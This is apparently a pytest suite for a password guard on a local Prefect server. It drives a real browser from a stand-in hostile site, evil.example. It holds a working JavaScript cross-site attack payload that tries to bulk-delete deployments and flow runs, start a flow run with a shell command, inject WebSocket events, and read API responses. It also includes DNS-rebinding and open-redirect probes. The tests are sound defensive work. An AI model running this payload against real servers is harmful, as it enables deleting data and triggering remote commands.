"""Pages in a real browser: another site's read and change nothing, and Prefect's request only from their server."""

from __future__ import annotations

import json
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

from flows.guard.password import CLIENT, CODE
from flows.guard.sign_in import address
from tests import browser
from tests.flows.guard.unguarded import unguarded
from tests.flows.running_ui import sent, served, until

Server = tuple[str, dict[str, str]]  # its address, and the environment of clients

# What a page can have a browser send to another address; `read` is what it gets to see
ATTACK = """
async (target, run, gone) => {
  const read = [], settled = [], socket = target.replace("http", "ws");
  const tell = (what, promise) => settled.push(Promise.resolve(promise).then(
    seen => { if (seen) read.push(`${what}: ${String(seen).slice(0, 60)}`) }, () => null));
  const text = answer => answer.text();
  for (const mode of ["cors", "no-cors"])
    for (const path of ["/api/deployments/bulk_delete", "/api/flow_runs/bulk_delete", "/api/flows/filter", run])
      for (const type of ["text/plain", "application/x-www-form-urlencoded", undefined]) {
        const body = new Blob([path === run ? JSON.stringify({job_variables: {command: "touch here"}}) : "{}"],
                              type ? {type} : {});
        for (const credentials of ["include", "omit"])
          for (const sent of [{body}, {}])
            tell(path, fetch(target + path, {method: "POST", mode, credentials, ...sent}).then(text));
      }
  for (const path of ["/api/version", "/api/admin/settings", "/ui-settings", "/"])
    tell(path, fetch(target + path).then(text));
  tell("delete", fetch(target + gone, {method: "DELETE"}).then(text));
  navigator.sendBeacon(target + "/api/deployments/bulk_delete", new Blob(["{}"], {type: "text/plain"}));
  for (const encoding of ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data"]) {
    const form = document.createElement("form"), frame = document.createElement("iframe");
    frame.name = `frame-${encoding}`;
    Object.assign(form, {method: "post", enctype: encoding, target: frame.name});
    form.action = target + "/api/deployments/bulk_delete";
    document.body.append(frame, form);
    form.submit();
  }
  for (const [tag, path] of [["img", "/ico/favicon-32x32.png"], ["script", "/assets/404-BH90Cg99.js"]])
    tell(tag, new Promise((loaded, failed) => {
      const element = document.createElement(tag);
      Object.assign(element, {onload: () => loaded("loaded"), onerror: failed, src: target + path});
      document.body.append(element);
    }));
  for (const path of ["/api/events/in", "/api/events/out", "/api/logs/out"])
    for (const protocols of [[], ["prefect"]])
      tell(path, new Promise((told, failed) => {
        const opened = new WebSocket(socket + path, protocols);
        const event = {event: "evil", id: crypto.randomUUID?.() ?? "00000000-0000-4000-8000-000000000007",
                       occurred: new Date().toISOString(), resource: {"prefect.resource.id": "evil"}};
        opened.onopen = () => {
          if (protocols.length) opened.send(JSON.stringify({type: "auth", token: ""}));
          opened.send(JSON.stringify(path.endsWith("in") ? event : {type: "filter", filter: {}}));
          told("opened");
        };
        opened.onerror = failed;
      }));
  await Promise.all(settled);
  await new Promise(passed => setTimeout(passed, 3000));
  return read;
}
"""
PAGES = (
    "/dashboard",
    "/runs",
    "/flows",
    "/deployments",
    "/work-pools",
    "/work-pools/create",
    "/blocks",
    "/blocks/catalog",
    "/variables",
    "/automations",
    "/automations/create",
    "/events",
    "/artifacts",
    "/concurrency-limits",
    "/settings",
    "/v2/",
    "/v2/dashboard",
)


class _Page(BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        content = b"<!doctype html><title>evil</title><body>a page"
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.send_header("Content-Length", str(len(content)))
        self.end_headers()
        self.wfile.write(content)

    def log_message(self, *arguments: object) -> None:
        pass


@pytest.fixture
def evil() -> Iterator[str]:
    """The address of another site, which is on this machine as a browser sees it."""
    with ThreadingHTTPServer(("127.0.0.1", 0), _Page) as site:
        threading.Thread(target=site.serve_forever, daemon=True).start()
        yield f"http://evil.example:{site.server_port}"
        site.shutdown()


def deployed(environment: dict[str, str]) -> str:
    """The id of a deployment."""
    flow: Any = sent(environment, "POST", "/flows/", {"name": "flow"}).json()
    body = {"name": "here", "flow_id": flow["id"]}
    return str(sent(environment, "POST", "/deployments/", body).raise_for_status().json()["id"])


def kept(environment: dict[str, str]) -> dict[str, int]:
    """What a server has that a page could delete or make."""
    counted = {kind: sent(environment, "POST", f"/{kind}/count", {}).json() for kind in ("deployments", "flow_runs")}
    events = sent(environment, "POST", "/events/filter", {"filter": {"event": {"name": ["evil"]}}}).json()
    return {**counted, "events": events["total"]}


@pytest.mark.soak
@pytest.mark.parametrize("guarded", [True, False])
def test_a_page_of_another_site_reads_and_changes_nothing(guarded: bool, evil: str, tmp_path: Path) -> None:
    """Without the guard, its attempts succeed."""
    with (
        browser.page(tmp_path, "MAP evil.example 127.0.0.1") as page,
        (served if guarded else unguarded)(tmp_path / "prefect") as environment,
    ):
        there = environment["PREFECT_API_URL"].removesuffix("/api")
        deployment = deployed(environment)
        before = kept(environment)
        if guarded:
            sign_in(page, there, environment[CLIENT])
        page.open(evil)
        page.shows("a page")
        run = f"/api/deployments/{deployment}/create_flow_run"
        read = page.run(f"({ATTACK})({json.dumps(there)}, {json.dumps(run)}, '/api/deployments/{deployment}')")
        if guarded:
            assert read == []
            assert kept(environment) == before == {"deployments": 1, "flow_runs": 0, "events": 0}
        else:
            assert any("/api/flows/filter" in each for each in read)
            until("nothing is deleted and stored", lambda: kept(environment)["deployments"] == 0)
            until("no event is stored", lambda: kept(environment)["events"] > 0)
        port = there.rpartition(":")[2]
        page.open(f"http://evil.example:{port}/")
        page.rest(2)
        asked = page.run("fetch('/api/flows/filter', {method: 'POST'}).then(answer => answer.status, () => 0)")
        assert asked == (0 if guarded else 200), "a name that leads here makes a page one of the server's own"
        assert ("This server has another name" in page.text) is guarded


@pytest.mark.soak
def test_prefects_pages_ask_nobody_but_their_server(tmp_path: Path) -> None:
    with served(tmp_path / "prefect", **{CODE: "once"}) as environment, browser.page(tmp_path) as page:
        there = environment["PREFECT_API_URL"].removesuffix("/api")
        deployment = deployed(environment)
        page.open(f"{there}/runs")
        page.shows("enter the password")
        page.open(address(there, "another"))
        page.shows("This address has been used, or is of another server.")
        page.open(address(there, "once"))
        page.shows("Run a task or flow to get started")
        for path in (*PAGES, f"/deployments/deployment/{deployment}", f"/deployments/deployment/{deployment}/run"):
            page.open(there + path)
            page.rest(1)
            assert "Prefect Cloud" not in page.text
        assert page.hosts == {there.removeprefix("http://")}
        assert page.run("fetch('/ui-settings').then(a => a.json()).then(a => a.available_uis.join())") == "v1"
        page.open(address(there, "once"))
        page.shows("Run a task or flow to get started")
        page.run("localStorage.setItem('prefect-password', 'changed')")
        page.open(f"{there}/login")
        page.shows("The password has changed.")
        page.run("localStorage.clear()")
        page.open(address(there, "once"))
        page.shows("This address has been used")
    kept_by_browser = b"".join(path.read_bytes() for path in (tmp_path / "browser").rglob("History*") if path.is_file())
    assert environment[CLIENT].encode() not in kept_by_browser
    assert b"sign-in" in kept_by_browser


def sign_in(page: browser.Page, there: str, password: str) -> None:
    """As somebody who types the password."""
    page.open(there)
    page.shows("enter the password")
    page.run(f"document.forms[0].password.value = {password!r}; document.forms[0].requestSubmit()")
    page.shows("Dashboard")


@pytest.mark.soak
@pytest.mark.parametrize(
    "path", ["//evil.example/x", "/\\\\evil.example/x", "///evil.example/x?a", "//evil.example/x#b"]
)
def test_whoever_signs_in_on_any_path_stays_on_this_server(path: str, server: Server, tmp_path: Path) -> None:
    there, environment = server
    with browser.page(tmp_path, "MAP evil.example 127.0.0.1") as page:
        page.open(there + path)
        page.shows("enter the password")
        page.run(f"document.forms[0].password.value = {environment[CLIENT]!r}; document.forms[0].requestSubmit()")
        page.rest(4)
        assert page.run("location.origin") == there


@pytest.mark.soak
def test_whoever_follows_a_link_gets_there_and_is_signed_in_by_what_is_kept(server: Server, tmp_path: Path) -> None:
    there, environment = server
    with browser.page(tmp_path) as page:
        sign_in(page, there, environment[CLIENT])
        page.run("document.cookie = `gristmill-${location.port}=; max-age=0; path=/`")
        page.open(f"{there}/runs?x=2#part")
        page.shows("Dashboard")
        assert page.run("location.href") == f"{there}/runs?x=2#part"


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    with served(tmp_path_factory.mktemp("prefect")) as environment:
        yield environment["PREFECT_API_URL"].removesuffix("/api"), environment
